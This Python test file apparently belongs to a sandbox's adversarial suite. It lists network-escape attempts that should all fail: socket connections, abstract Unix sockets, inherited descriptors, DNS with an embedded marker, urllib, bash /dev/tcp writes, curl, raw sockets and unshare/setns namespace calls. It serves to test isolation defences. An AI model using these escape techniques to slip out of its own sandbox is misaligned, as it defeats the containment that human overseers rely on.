"""Reaching a network: a server listens on this machine in every way, and must hear nothing."""

from __future__ import annotations

from tests.adversarial.attack import Attack

PLACES = """
import json, os, socket, subprocess
places = json.load(open('data/places.json'))
def attempt(action):
    try: print('FAIT', action())
    except Exception as error: print(type(error).__name__, error)
"""

ATTACKS = (
    Attack(
        "tcp",
        "a TCP connection over IPv4",
        PLACES + "attempt(lambda: socket.create_connection(('127.0.0.1', places['tcp']), 2).sendall(b'evasion'))",
    ),
    Attack(
        "tcp6",
        "a TCP connection over IPv6",
        PLACES + "attempt(lambda: socket.create_connection(('::1', places['tcp6']), 2).sendall(b'evasion'))",
    ),
    Attack(
        "udp",
        "datagrams over IPv4 and IPv6",
        PLACES
        + """
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'evasion', ('127.0.0.1', places['udp'])))
attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'evasion', ('::1', places['udp6'])))
""",
    ),
    Attack(
        "unix",
        "a Unix socket by path",
        PLACES
        + """
def say():
    s = socket.socket(socket.AF_UNIX); s.connect(places['unix']); s.sendall(b'evasion')
attempt(say)
""",
    ),
    Attack(
        "abstract",
        "an abstract Unix socket, which no file protects",
        PLACES
        + """
def say():
    s = socket.socket(socket.AF_UNIX); s.connect('\\0' + places['abstract']); s.sendall(b'evasion')
attempt(say)
""",
    ),
    Attack(
        "pair-addressed",
        "a socket pair is given an address to send to",
        PLACES
        + """
def say(kind):
    a, b = socket.socketpair(socket.AF_UNIX, kind)
    a.sendto(b'evasion', '\\0' + places['abstract-datagram'])
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET): attempt(lambda kind=kind: say(kind))
""",
    ),
    Attack(
        "inherited-sockets",
        "inherited descriptors are connected anew, or used to receive others",
        PLACES
        + """
for number in range(3, 64):
    def say():
        s = socket.socket(fileno=os.dup(number)); s.connect(('127.0.0.1', places['tcp'])); s.sendall(b'evasion')
    attempt(say)
""",
    ),
    Attack(
        "dns",
        "names are resolved, with a secret in them",
        PLACES
        + "attempt(lambda: socket.getaddrinfo('evasion.localhost', 80))\nattempt(lambda: socket.gethostbyname('localhost.'))",
    ),
    Attack(
        "http",
        "urllib and a proxy variable",
        PLACES
        + """
import urllib.request
os.environ['http_proxy'] = f"http://127.0.0.1:{places['tcp']}"
attempt(lambda: urllib.request.urlopen(f"http://127.0.0.1:{places['tcp']}/evasion", timeout=2).read())
attempt(lambda: urllib.request.urlopen("http://exemple.invalid/evasion", timeout=2).read())
""",
    ),
    Attack(
        "programs",
        "bash, curl and another Python do it",
        PLACES
        + """
import sys
for command in (['bash', '-c', f"echo evasion > /dev/tcp/127.0.0.1/{places['tcp']}"],
                ['bash', '-c', f"echo evasion > /dev/udp/127.0.0.1/{places['udp']}"],
                ['curl', '-s', '-m', '2', f"http://127.0.0.1:{places['tcp']}/"],
                [sys.executable, '-S', '-c', f"import socket; socket.create_connection(('127.0.0.1', {places['tcp']}))"]):
    attempt(lambda: subprocess.run(command, timeout=10, capture_output=True))
""",
    ),
    Attack(
        "raw",
        "raw, packet, netlink, vsock and Bluetooth sockets",
        PLACES
        + """
made = []
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (16, socket.SOCK_RAW),
                     (40, socket.SOCK_STREAM), (31, socket.SOCK_RAW), (38, socket.SOCK_SEQPACKET)):
    try: made.append(socket.socket(family, kind, 1).family)
    except OSError: pass
assert not made, made
""",
    ),
    Attack(
        "listening",
        "a server of one's own",
        PLACES
        + """
made = []
for family, address in ((socket.AF_INET, ('0.0.0.0', 0)), (socket.AF_INET6, ('::', 0))):
    try:
        s = socket.socket(family); s.bind(address); s.listen(); made.append(address)
    except OSError: pass
assert not made, made
""",
    ),
    Attack(
        "network-namespace",
        "a new namespace, or another process's, with a network in it",
        PLACES
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
done = [libc.unshare(flag) for flag in (0x10000000, 0x40000000, 0x10000000 | 0x40000000)]
for pid in ('1', 'self'):
    try: done.append(libc.setns(os.open(f'/proc/{pid}/ns/net', os.O_RDONLY), 0))
    except OSError: pass
assert set(done) == {-1}, done
""",
        flagged="code.ctypes",
    ),
)
